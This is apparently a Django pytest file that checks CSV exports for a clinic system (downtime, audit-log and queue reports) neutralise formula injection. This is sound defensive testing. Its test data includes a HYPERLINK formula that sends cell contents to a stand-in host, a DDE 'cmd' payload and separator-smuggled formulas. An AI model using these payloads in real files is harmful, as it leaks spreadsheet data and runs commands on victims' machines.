"""CSV injection: no export has a cell a spreadsheet would run as a formula, whichever
separator the spreadsheet splits on (Indonesian regional settings use `;`). One helper,
config.security.sel_csv, used by every CSV export: downtime report, audit log, queue report."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from config.security import sel_csv
from tests.security.conftest import klien_login

pytestmark = pytest.mark.django_db

JAHAT = '=HYPERLINK("http://x.example/?"&A1,"klik")'
PEMICU = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def sel_berbahaya(teks: str) -> list[str]:
    """Every cell that starts with a formula sign when the file is split on `,`, `;`, tab or
    `|` (a spreadsheet that ignores the quotes splits quoted text too: check both)."""
    buruk = []
    for pemisah in (",", ";", "\t", "|"):
        for baris in csv.reader(io.StringIO(teks), delimiter=pemisah):
            buruk += [s for s in baris if s.strip().startswith(PEMICU)]
        for baris in teks.splitlines():
            buruk += [s for s in baris.split(pemisah) if s.strip().strip('"').startswith(PEMICU)]
    return buruk


@pytest.mark.parametrize(
    "nilai",
    [JAHAT, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "a;=1+1", "a,=1", "a\t@x", "a|-1",
     "baris\n=1", "\uff1d1+1", "Kabel; =cmd|' /C calc'!A0"],
)  # fmt: skip
def test_sel_csv_makes_a_formula_inert_under_every_separator(nilai):
    buf = io.StringIO()
    csv.writer(buf).writerow([sel_csv(nilai)])
    assert sel_berbahaya(buf.getvalue()) == [], buf.getvalue()


def test_sel_csv_keeps_ordinary_values_and_numbers():
    assert sel_csv("Kabel LAN lepas") == "Kabel LAN lepas"
    assert sel_csv("03-03-2026") == "03-03-2026"
    assert sel_csv(-5) == -5 and sel_csv(2.5) == 2.5
    assert sel_csv(None) == ""


def test_the_downtime_report_csv_neutralises_causes_and_fixes(admin_puskesmas, puskesmas):
    from downtime import services

    tz = timezone.get_current_timezone()
    mulai = datetime(2026, 3, 3, 8, 0, tzinfo=tz)
    e = services.downtime_mulai(puskesmas=puskesmas, alasan="jaringan", pada=mulai)
    services.downtime_selesai(episode=e, pada=mulai + timedelta(minutes=30))
    services.episode_ubah(episode=e, penyebab=JAHAT, perbaikan="Router; -1+1", direspons_pada=mulai)
    r = klien_login(admin_puskesmas.user).get(reverse("downtime:laporan_csv"), {"bulan": "2026-03"})
    teks = r.content.decode("utf-8-sig")
    assert "HYPERLINK" in teks  # the text is kept, only made inert
    assert sel_berbahaya(teks) == []


def test_the_audit_csv_neutralises_a_username_typed_at_the_login_form(client, admin_puskesmas):
    client.post("/masuk/", {"username": "budi;=1+1", "password": "x"})
    client.post("/masuk/", {"username": JAHAT, "password": "x"})
    r = klien_login(admin_puskesmas.user).get("/admin/audit/auditlog/ekspor/")
    teks = b"".join(r.streaming_content).decode("utf-8-sig")
    assert "budi;" in teks and "HYPERLINK" in teks
    assert sel_berbahaya(teks) == []


def test_the_queue_report_csv_neutralises_unit_names(kepala, unit):
    unit.nama = "Poli; @SUM(A1)"
    unit.save()
    r = klien_login(kepala.user).get(reverse("antrean:laporan"), {"format": "csv"})
    teks = r.content.decode("utf-8-sig")
    assert "SUM(A1)" in teks
    assert sel_berbahaya(teks) == []
